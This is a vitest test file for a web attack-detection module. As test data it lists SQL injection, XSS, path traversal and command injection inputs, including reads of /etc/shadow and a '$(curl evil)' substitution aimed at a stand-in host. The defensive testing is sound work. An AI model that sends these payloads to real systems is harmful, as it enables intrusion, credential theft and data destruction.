import { describe, expect, it } from 'vitest'
import { detect, detectInBody, detectInUrl, escapeSample } from './detection.ts'

describe('attack detection', () => {
  it.each([
    ["/api/orders?status=' OR '1'='1", 'sql_injection'],
    ['/api/orders?q=1 UNION SELECT password FROM users', 'sql_injection'],
    ['/api/orders?id=1;DROP TABLE orders', 'sql_injection'],
    ["/api/orders?id=1' --", 'sql_injection'],
    ['/api/orders?id=1 or 1=1', 'sql_injection'],
    ['/api/x?q=pg_sleep(10)', 'sql_injection'],
    ['/search?q=<script>alert(1)</script>', 'xss'],
    ['/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'xss'],
    ['/go?next=javascript:alert(1)', 'xss'],
    ['/x?q=<img src=x onerror=alert(1)>', 'xss'],
    ['/static/../../etc/passwd', 'path_traversal'],
    ['/static/%2e%2e%2f%2e%2e%2fetc', 'path_traversal'],
    ['/x?file=..%5c..%5cwin.ini', 'path_traversal'],
    ['/x?host=example.com;cat /etc/shadow', 'path_traversal'],
    ['/x?host=8.8.8.8 && whoami', 'command_injection'],
    ['/x?cmd=$(curl evil)', 'command_injection'],
  ])('flags %s as %s', (url, kind) => {
    expect(detectInUrl(url)?.kind).toBe(kind)
  })

  it.each([
    '/api/orders?status=pending&channel=shopify-uk',
    '/api/products?q=Gin %26 Tonic',
    "/api/products?q=Rock 'n' roll",
    '/api/notes?text=50%25 off -- today only',
    '/api/orders?from=2026-01-01T00:00:00Z',
    '/api/search?q=select the union jack bottle',
  ])('leaves ordinary requests alone: %s', (url) => {
    expect(detectInUrl(url)).toBeNull()
  })

  it('finds in a plain URL exactly what the full pattern set finds (the fast path is sound)', () => {
    // Every keyword of every pattern, made only of the plain alphabet, shuffled into URLs.
    const words = ['union', 'select', 'or', 'and', '1', 'drop', 'table', 'pg_sleep', 'sleep', 'pg_catalog']
      .concat(['information_schema', 'script', 'javascript', 'onload', 'iframe', 'svg', 'etc', 'passwd'])
      .concat(['win.ini', 'boot.ini', '..', '.', 'cat', 'ls', 'id', 'rm', 'bash', '-', '_', '--', '2e'])
    let seed = 7
    const next = () => {
      seed = (seed * 1103515245 + 12345) % 2 ** 31
      return seed
    }
    let matched = 0
    for (let i = 0; i < 5000; i++) {
      const parts = Array.from({ length: 1 + (next() % 6) }, () => words[next() % words.length])
      const url = `/${parts.join(next() % 2 ? '/' : '')}`
      const full = detect(url, 'path')
      expect(detectInUrl(url)?.pattern ?? null, url).toBe(full?.pattern ?? null)
      if (full) matched++
    }
    expect(matched).toBeGreaterThan(100)
  })

  it('scans a raw body as text', () => {
    const raw = Buffer.from(JSON.stringify({ email: "x' OR '1'='1", password: 'p' }))
    expect(detectInBody(raw)?.kind).toBe('sql_injection')
    expect(detectInBody(Buffer.alloc(64 * 1024, 'a'))).toBeNull()
  })

  it('scans string values and keys of JSON bodies', () => {
    expect(detectInBody({ name: 'Gin', notes: ['fine', { deep: "x' OR 'a'='a" }] })?.kind).toBe(
      'sql_injection',
    )
    expect(detectInBody({ '<script>': 1 })?.kind).toBe('xss')
    expect(detectInBody({ name: 'Elderflower Tonic 200ml', qty: 12 })).toBeNull()
    expect(detectInBody(undefined)).toBeNull()
  })

  it('stores a truncated, escaped sample', () => {
    const found = detectInUrl(`/x?q=<script>${'a'.repeat(500)}`)!
    expect(found.sample.length).toBeLessThan(260)
    expect(found.sample).not.toContain('<')
    expect(escapeSample('a\nb<c>')).toBe('a\\nb\\u003cc\\u003e')
  })
})
